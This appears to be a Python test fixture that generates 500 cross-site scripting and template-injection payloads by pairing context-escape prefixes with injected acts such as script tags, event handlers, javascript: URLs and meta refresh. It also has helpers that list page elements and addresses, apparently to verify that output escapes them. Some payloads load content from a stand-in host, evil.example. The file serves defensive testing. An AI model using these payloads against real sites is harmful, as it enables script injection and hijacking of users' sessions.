"""Five hundred texts that would act if they were taken for markup, for a template or an address: ways out x acts."""

from collections.abc import Iterator
from itertools import cycle

from selectolax.lexbor import LexborHTMLParser

ACT = "top.pwned=1"
# ways out of where a text may stand: text, attributes in all quotes, raw text, comments, templates, selects
_WAYS_OUT = (
    *(
        "",
        '">',
        "'>",
        '" ',
        "' ",
        "` ",
        ">",
        "/>",
        "\\",
        '\\">',
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "-->",
    ),
    *"]]>|</noscript>|</option></select>|</code></pre>|</svg>|</td></tr></table>|\n\n|\t\r\n|&#34;>|}}".split("|"),
)
_ACTS = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f"<svg/onload={ACT}>",
    f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"<a href=javascript:{ACT}>x</a>",
    f"javascript:{ACT}//",
    f"JaVa\tScRiPt:{ACT}",
    f"onfocus={ACT} autofocus tabindex=1 xss=",
    f"onmouseover='{ACT}' style='position:fixed;inset:0' ",
    f"<details open ontoggle={ACT}>",
    f"<form action=javascript:{ACT}><button autofocus>x",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "<style>@import '//evil.example/';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/>",
    "{{ 7 * 7191 }}{% include 'home.html' %}",  # CVE-2024-32651: a template engine on what others wrote
    f"&lt;script&gt;{ACT}&lt;/script&gt;",  # GHSA-q8xq-qg4x-wphg: extracted text becomes markup again
    f"data:text/html,<script>{ACT}</script>",
    f"<xss-el onclick={ACT}></xss-el>",
    f"<math><a xlink:href=javascript:{ACT}>x</a></math>",
)
PAYLOADS = tuple(f"{out}{act}" for act in _ACTS for out in _WAYS_OUT)


def harmless(payload: str) -> str:
    """Return a text as long as a payload that is nothing but letters, with its spaces; ` is a sign of our own."""
    return "".join(char if char.isspace() or char.isalnum() or char == "`" else "x" for char in payload)


def rounds(*, is_harmless: bool, start: int = 0) -> Iterator[str]:
    """Yield payloads for ever, from one of them on; or what is as long and harmless."""
    turned = (*PAYLOADS[start:], *PAYLOADS[:start])
    for number, payload in enumerate(cycle(turned)):
        # a letter and a number in front keep texts apart and not empty, as their makers would
        yield f"t{number} {harmless(payload) if is_harmless else payload}"


def skeleton(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return the elements of a page in order, each with the names of its attributes."""
    nodes = LexborHTMLParser(html).css("*")
    return [(node.tag or "", tuple(sorted(node.attributes))) for node in nodes]


def addresses(html: str) -> list[str]:
    """Return what a page leads to, loads or sends to."""
    found = []
    for node in LexborHTMLParser(html).css("*"):
        values = node.attributes
        found += [values[name] or "" for name in ("href", "src", "action", "formaction", "poster") if name in values]
    return found
